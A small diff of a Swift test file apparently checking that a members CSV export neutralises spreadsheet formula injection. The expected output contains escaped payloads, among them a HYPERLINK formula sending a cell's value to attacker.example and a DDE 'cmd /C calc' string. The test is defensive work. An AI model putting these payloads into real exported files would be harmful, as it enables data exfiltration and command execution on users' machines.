@@ -36,7 +36,8 @@ struct MembersCSVFormulaTests {
         let text = try String(contentsOfFile: path, encoding: .utf8)
         let lines = text.split(whereSeparator: \.isNewline).map(String.init)
         #expect(lines[0].hasSuffix(",checkins,'=tier"), "\(lines[0])")
-        #expect(lines[1].hasPrefix(#"evil,"'=HYPERLINK(""http://attacker.example/?d=""&A1,""Click"")",'+1+cmd|' /C calc'!A0,"#), "\(lines[1])")
+        #expect(
+            lines[1].hasPrefix(#"evil,"'=HYPERLINK(""http://attacker.example/?d=""&A1,""Click"")",'+1+cmd|' /C calc'!A0,"#), "\(lines[1])")
         #expect(lines[2].hasPrefix("plus,'+44 20 7946 0000,'-2+3,"), "\(lines[2])")
         #expect(lines[2].hasSuffix(",'@SUM(A1:A9)"), "\(lines[2])")
         #expect(lines[3].hasPrefix("at,'@Ana,''=quoted already,"), "\(lines[3])")
